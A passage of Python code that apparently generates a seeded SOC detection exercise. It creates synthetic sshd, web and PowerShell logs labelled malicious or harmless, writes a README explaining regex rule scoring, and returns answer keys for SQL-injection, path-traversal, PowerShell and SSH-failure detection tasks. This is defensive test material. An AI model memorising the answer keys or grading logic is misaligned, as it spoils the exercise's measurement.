        end = t + rng.randint(60, 5400)
        sshd(end, f"Received disconnect from {ip} port {port}:11: disconnected by user", key=key)
        sshd(end, f"pam_unix(sshd:session): session closed for user {user}", key=key)
    for _ in range(rng.randint(6, 14)):  # background probes
        ip, port = rng.choice(attackers), rng.randint(32768, 60999)
        key = newkey()
        if rng.random() < 0.5:
            sshd(
                rng.randint(0, 86399),
                "error: kex_exchange_identification: Connection closed by remote host",
                key=key,
            )
        else:
            sshd(
                rng.randint(0, 86399), f"Connection closed by {ip} port {port} [preauth]", key=key
            )
    events.sort(key=lambda e: (e[0], e[1]))
    pid, pids = rng.randint(2000, 90000), {}
    lines, labels = [], []
    for t, _, key, msg, label in events:
        if key not in pids:
            pid += rng.randint(1, 60)
            pids[key] = pid
        when = day + timedelta(seconds=t)
        stamp = f"{MONTHS[when.month - 1]} {when.day:>2} {when:%H:%M:%S}"
        lines.append(f"{stamp} {host} sshd[{pids[key]}]: {msg}")
        labels.append(bool(label))
    return lines, labels, {"office": office, "attackers": attackers}


def generate(seed: int) -> Case:
    rng = random.Random(seed)
    ministry, short = rng.choice(MINISTRIES)
    domain = f"{short}.gov.example"
    netbios = short.upper()[:8]
    day = datetime(YEAR, rng.randint(1, 12), rng.randint(1, 28), tzinfo=PKT)
    used: set[str] = set()
    web, sqli_labels, trav_labels, web_facts = _web_log(rng, seed, day, domain, used)
    ps, ps_labels, ps_facts = _ps_log(rng, day, domain, netbios, used)
    server = f"jump{rng.randint(1, 9):02d}"
    auth, auth_labels, auth_facts = _auth_log(rng, day, server, used)
    files = {
        "web_access.log": "\n".join(web) + "\n",
        "powershell.log": "\n".join(ps) + "\n",
        "auth.log": "\n".join(auth) + "\n",
    }
    date_text = f"{day.day} {day:%B} {day.year}"
    sums = "\n".join(
        f"  {name:<15} SHA-256 {hashlib.sha256(text.encode()).hexdigest()}"
        for name, text in files.items()
    )
    files["README.txt"] = f"""\
SOC detection exercise — {ministry}
{"=" * (27 + len(ministry))}

The Security Operations Centre has started collecting logs but has no SIEM rules yet.
Before rules go live, each rule is tried against a day of real, labelled logs.

Date of the logs : {date_text} (Pakistan Standard Time, Asia/Karachi, UTC+05:00)
Public portal    : https://portal.{domain} (nginx, "combined" log format)
Windows domain   : {netbios} (process-creation events, Security event 4688, with command lines)
Jump server      : {server} (OpenSSH; /var/log/auth.log, sshd lines only)

Files
-----
{sums}

How the rules are scored
------------------------
A rule is one regular expression (Python / PCRE-style syntax). It is searched for in every
line of the file the question names; a line it finds anywhere in is "flagged".
The SOC has labelled every line of these files as malicious or harmless for each rule.

  precision = flagged malicious lines / all flagged lines
              (low precision = analysts drown in false alarms)
  recall    = flagged malicious lines / all malicious lines
              (low recall = attacks go unnoticed)

A rule passes when both reach the level the question asks for. Otherwise you get partial
credit (the F1 score, the balance of the two) and the numbers, so you can improve it.
Matching is case-sensitive unless you add (?i) at the start. A rule may be at most
300 characters and must finish within a second: avoid nested repeats such as (a+)+.

Test your rules before submitting, for example:
  grep -P  'PATTERN' web_access.log | less
  grep -cP 'PATTERN' web_access.log
  python3 -c "import re,sys; p=re.compile(sys.argv[1]); [print(l,end='') for l in open(sys.argv[2]) if p.search(l)]" 'PATTERN' web_access.log
"""
    return Case(
        files=files,
        answers={
            "detect-sqli": {"lines": web, "labels": sqli_labels},
            "sqli-top-ip": web_facts["top_ip"],
            "sqli-top-count": web_facts["top_count"],
            "detect-traversal": {"lines": web, "labels": trav_labels},
            "traversal-file": [web_facts["target"], web_facts["target_path"]],
            "detect-powershell": {"lines": ps, "labels": ps_labels},
            "detect-ssh-failures": {"lines": auth, "labels": auth_labels},
        },
        notes={
            "ministry": ministry,
            "domain": domain,
            "date": day.date().isoformat(),
            **web_facts,
            **ps_facts,
            **auth_facts,
        },
    )
